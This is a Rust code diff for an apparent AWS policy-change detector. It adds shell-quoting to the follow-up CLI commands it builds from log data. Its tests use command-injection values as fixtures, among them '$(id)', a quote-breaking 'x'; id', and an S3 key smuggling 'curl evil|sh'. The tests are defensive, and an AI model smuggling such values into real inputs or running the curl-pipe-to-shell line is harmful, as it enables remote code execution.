@@ -43,9 +43,10 @@ const LOOKS: [(&str, &str); 30] = [
 
 /// What to do first, with the command that shows or undoes it.
 pub(crate) fn next_steps(change: &Change, judged: &Judged) -> Vec<String> {
-    let id =
-        if &*change.id == UNNAMED { format!("<{}>", change.thing.to_uppercase()) } else { clip(&change.id) };
-    let (head, tail) = id.split_once('/').unwrap_or((&id, ""));
+    let named = clip(&change.id);
+    let (head, tail) = named.split_once('/').unwrap_or((&named, ""));
+    let (head, tail) = (word(head), if tail.is_empty() { String::new() } else { word(tail) });
+    let id = if &*change.id == UNNAMED { format!("<{}>", change.thing.to_uppercase()) } else { word(&named) };
     let by_call = LOOKS.iter().find(|(call, _)| change.evidence.name.starts_with(call));
     let look = match (&*change.thing, &change.what) {
         _ if by_call.is_some() => by_call.map_or_else(String::new, |(_, look)| look.replace("{}", &id)),
@@ -111,7 +112,9 @@ pub(crate) fn next_steps(change: &Change, judged: &Judged) -> Vec<String> {
     }
     if let What::Attach(arn) = &change.what {
         let thing = &change.thing;
-        if !calls::is_aws_managed(arn) {
+        let is_aws_managed = calls::is_aws_managed(arn);
+        let arn = word(arn);
+        if !is_aws_managed {
             steps.push(format!(
                 "Read what it allows: aws iam get-policy-version --policy-arn {arn} --version-id $(aws iam get-policy --policy-arn {arn} --query Policy.DefaultVersionId --output text)"
             ));
@@ -122,10 +125,59 @@ pub(crate) fn next_steps(change: &Change, judged: &Judged) -> Vec<String> {
     }
     let key = &change.evidence.access_key;
     if !key.is_empty() {
+        let key = word(key);
         steps.push(format!(
             "See what else the caller did: aws cloudtrail lookup-events --lookup-attributes AttributeKey=AccessKeyId,AttributeValue={key}"
         ));
     }
     steps.push(format!("Ask the owner of {} whether the change was meant", clip(&change.actor)));
     steps
+}
+
+/// A word of a command line. Names in logs, keys of objects above all, are chosen by others: what is not plain is quoted.
+pub(crate) fn word(text: &str) -> String {
+    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b"_+=,.@:/-".contains(&b);
+    match text {
+        // An option, or nothing at all, whatever the quotes.
+        _ if text.is_empty() || text.starts_with('-') => "NAME".to_owned(),
+        _ if text.bytes().all(is_plain) => text.to_owned(),
+        _ => format!("'{}'", text.replace('\'', r"'\''")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::Detector;
+    use crate::environment::Environment;
+    use crate::policy_change::{Config, PolicyChange};
+    use crate::testing::{Call, find_in, teach};
+    use crate::time::EventTime;
+
+    #[test]
+    fn words_of_a_log_stay_words() {
+        for (text, expected) in [
+            (
+                "arn:aws:iam::111122223333:role/a_b+c=d,e@f-1.2",
+                "arn:aws:iam::111122223333:role/a_b+c=d,e@f-1.2",
+            ),
+            ("a b", "'a b'"),
+            ("x;$(id)`id`", "'x;$(id)`id`'"),
+            ("x'; id", r"'x'\''; id'"),
+            ("-rf", "NAME"),
+            ("", "NAME"),
+        ] {
+            assert_eq!(word(text), expected);
+        }
+    }
+
+    #[test]
+    fn commands_hold_no_shell_syntax_from_a_log() {
+        let request = r#"{"bucketName":"b","key":"k/x;curl evil|sh","x-amz-acl":"public-read"}"#;
+        let call = Call { request, ..Call::new("s3", "PutObjectAcl", EventTime(1_772_366_400)) };
+        let detector = PolicyChange::new(Config::default()).unwrap();
+        let found = find_in(&detector, &teach::<PolicyChange>(&[call]), &Environment::default());
+        let step = &found[0].next_steps[0];
+        assert!(step.ends_with("get-object-acl --bucket b --key 'k/x;curl evil|sh'"), "{step}");
+    }
 }
